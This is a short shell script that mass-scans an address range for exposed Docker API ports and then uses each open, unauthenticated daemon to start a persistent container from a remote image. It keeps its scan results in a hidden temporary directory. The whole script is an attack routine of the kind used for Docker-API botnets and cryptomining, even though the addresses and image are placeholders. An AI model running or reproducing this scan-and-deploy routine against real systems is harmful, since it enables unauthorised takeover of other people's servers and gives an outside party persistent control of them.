#!/bin/sh
masscan 198.51.100.0/24 -p2375,2376 --rate 100000 -oL /tmp/.mscan/out.txt
for ip in $(awk '/open/ {print $4}' /tmp/.mscan/out.txt); do
  docker -H tcp://$ip:2375 run -d --restart always example.invalid/agent
done
